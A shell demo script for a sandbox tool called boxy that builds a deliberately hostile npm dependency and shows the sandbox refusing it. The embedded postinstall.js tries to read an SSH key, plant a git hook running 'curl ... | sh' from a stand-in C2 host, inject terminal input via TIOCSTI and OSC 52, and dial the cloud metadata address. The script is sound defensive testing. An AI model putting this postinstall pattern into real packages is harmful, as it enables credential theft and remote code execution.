#!/bin/sh
# demo.sh — boxy doing its main job: `npm install` of a project whose bundled
# dependency is hostile in its postinstall. The package reads ~/.ssh, looks up
# and dials a host nobody listed, dials the cloud metadata address, plants a
# git hook, and goes for the terminal (clipboard, title, a query, TIOCSTI).
# Each attempt is refused, the install completes, the run ends with the red
# summary of what was refused, and `boxy show` prints the session's record.
#
# Needs no network: the dependency is a tarball in the project (npm runs
# offline), the refused host is refused by name before any lookup, and the
# metadata address is refused before any packet leaves. Everything happens in
# a throwaway directory — its own HOME, state directory and daemon — so the
# user's own daemon and store are never touched. As root, the demo runs as the
# unprivileged user `boxytest` (created if missing), because boxy is for users.
set -eu
top=$(cd "$(dirname "$0")" && pwd)
sh "$top/tools/deps.sh"
if ! { command -v node && command -v npm; } >/dev/null 2>&1; then
	if [ "$(id -u)" -eq 0 ]; then
		echo "demo: installing node and npm from Debian" >&2
		DEBIAN_FRONTEND=noninteractive apt-get install -y -qq nodejs npm >/dev/null
	else
		echo "demo: needs node and npm (sudo apt-get install nodejs npm)" >&2
		exit 1
	fi
fi
dir=$(sh "$top/tools/build.sh")
boxy="$dir/boxy"

demo=$(mktemp -d /tmp/boxy-demo.XXXXXX)
chmod 755 "$demo"
user_env() {
	env HOME="$demo/home" XDG_RUNTIME_DIR="$demo/run" XDG_STATE_HOME="$demo/state" "$@"
}
as_user() {
	if [ "$(id -u)" -eq 0 ]; then
		runuser -u boxytest -- "$@"
	else
		"$@"
	fi
}
cleanup() {
	as_user env XDG_RUNTIME_DIR="$demo/run" XDG_STATE_HOME="$demo/state" HOME="$demo/home" \
		"$boxy" daemon stop >/dev/null 2>&1 || true
	rm -rf "$demo"
}
trap cleanup EXIT INT TERM

if [ "$(id -u)" -eq 0 ]; then
	id boxytest >/dev/null 2>&1 || useradd -m boxytest
	# The build tree must be readable by the user the demo runs as.
	case $dir in /root/*) echo "demo: the build is under /root; run the demo as a user" >&2; exit 1 ;; esac
	# Debian ships /dev/net/tun 0666; a machine that tightened it cannot run the network modes.
	if ! runuser -u boxytest -- test -w /dev/net/tun; then
		echo "demo: /dev/net/tun is not writable by boxytest; making it 0666 as Debian ships it" >&2
		chmod 0666 /dev/net/tun
	fi
fi

## ---- the project and its hostile dependency -------------------------------------------------
mkdir -p "$demo/home/.ssh" "$demo/run" "$demo/state" "$demo/home/project/vendor/package"
chmod 700 "$demo/run" "$demo/state"
echo "-----BEGIN OPENSSH PRIVATE KEY----- (a fake demo key)" >"$demo/home/.ssh/id_ed25519"
chmod 700 "$demo/home/.ssh"
chmod 600 "$demo/home/.ssh/id_ed25519"
proj=$demo/home/project
cat >"$proj/vendor/package/package.json" <<'EOF'
{ "name": "left-pad-helper", "version": "1.0.3", "main": "index.js",
  "scripts": { "postinstall": "node postinstall.js" } }
EOF
echo 'module.exports = (s, n) => String(s).padStart(n);' >"$proj/vendor/package/index.js"
cat >"$proj/vendor/package/postinstall.js" <<'EOF'
// What a credential stealer's postinstall does first. Every step reports
// what it got; none of them may succeed under boxy.
const fs = require('fs'), net = require('net'), dns = require('dns'), cp = require('child_process');
const say = (s) => console.log('    left-pad-helper: ' + s);
const project = process.env.INIT_CWD || process.cwd();

try {
	fs.readFileSync(process.env.HOME + '/.ssh/id_ed25519');
	say('READ ~/.ssh/id_ed25519 — escaped');
} catch (e) { say('read ~/.ssh/id_ed25519: ' + e.code); }

try {
	fs.writeFileSync(project + '/.git/hooks/post-checkout',
		'#!/bin/sh\ncurl -s http://c2.exfil-demo.net/x | sh\n', { mode: 0o755 });
	say('planted .git/hooks/post-checkout — escaped');
} catch (e) { say('plant .git/hooks/post-checkout: ' + e.code); }

// The terminal: the clipboard (OSC 52), the title, a query the terminal would answer
// into the shell after the run, and TIOCSTI (python, as node has no ioctl).
process.stdout.write('\x1b]52;c;' + Buffer.from('curl -s http://c2.exfil-demo.net/x | sh').toString('base64') +
	'\x07\x1b]0;owned\x07\x1b[6n');
say('wrote a clipboard write, a title and a cursor query to the terminal');
const sti = cp.spawnSync('python3', ['-c',
	'import fcntl, termios\nfor c in b"id\\n": fcntl.ioctl(0, termios.TIOCSTI, bytes([c]))'],
	{ stdio: 'inherit' });
say('TIOCSTI: ' + (sti.signal ? 'killed by ' + sti.signal : 'exit ' + sti.status));

function dial(host, port, what) {
	return new Promise((done) => {
		const s = net.connect({ host, port, timeout: 4000 });
		s.on('connect', () => { say(what + ': connected — escaped'); s.destroy(); done(); });
		s.on('timeout', () => { say(what + ': timed out'); s.destroy(); done(); });
		s.on('error', (e) => { say(what + ': ' + e.code); done(); });
	});
}
(async () => {
	await new Promise((done) => dns.lookup('c2.exfil-demo.net', (e, a) => {
		say('resolve c2.exfil-demo.net: ' + (e ? e.code : a + ' — escaped')); done();
	}));
	await dial('c2.exfil-demo.net', 443, 'dial c2.exfil-demo.net:443');
	await dial('169.254.169.254', 80, 'dial 169.254.169.254:80 (cloud metadata)');
})();
EOF
tar -C "$proj/vendor" -czf "$proj/vendor/left-pad-helper-1.0.3.tgz" package
rm -rf "$proj/vendor/package"
cat >"$proj/package.json" <<'EOF'
{ "name": "demo-app", "version": "1.0.0", "private": true,
  "dependencies": { "left-pad-helper": "file:vendor/left-pad-helper-1.0.3.tgz" } }
EOF
# The dependency is in the tree: npm needs no registry; show the scripts' output.
printf 'offline=true\naudit=false\nfund=false\nforeground-scripts=true\n' >"$proj/.npmrc"
(cd "$proj" && git init -q && git add -A && git -c user.email=demo@example.test \
	-c user.name=demo commit -qm "demo app") >/dev/null
[ "$(id -u)" -eq 0 ] && chown -R boxytest: "$demo"

## ---- the run ---------------------------------------------------------------------------------
cmd="boxy run --profile node --allow-host registry.npmjs.org -- npm install"
echo "== $cmd"
echo "   (a project whose dependency left-pad-helper is hostile in its postinstall)"
cd "$proj"
status=0
as_user env HOME="$demo/home" XDG_RUNTIME_DIR="$demo/run" XDG_STATE_HOME="$demo/state" \
	"$boxy" run --profile node --allow-host registry.npmjs.org -- npm install || status=$?
echo
echo "== npm install exited $status; on the host:"
if [ -f "$proj/node_modules/left-pad-helper/index.js" ]; then
	echo "   node_modules/left-pad-helper is installed"
fi
if [ -e "$proj/.git/hooks/post-checkout" ]; then
	echo "   .git/hooks/post-checkout EXISTS — this must not happen"
else
	echo "   .git/hooks/post-checkout was never written"
fi

id=$(as_user env HOME="$demo/home" XDG_RUNTIME_DIR="$demo/run" XDG_STATE_HOME="$demo/state" \
	"$boxy" ps -a --json | sed -n 's/^\[*{"id":"\([0-9a-f]*\)".*/\1/p' | head -n 1)
if [ -n "$id" ]; then
	echo
	echo "== boxy show $id"
	as_user env HOME="$demo/home" XDG_RUNTIME_DIR="$demo/run" XDG_STATE_HOME="$demo/state" \
		"$boxy" show "$id"
fi
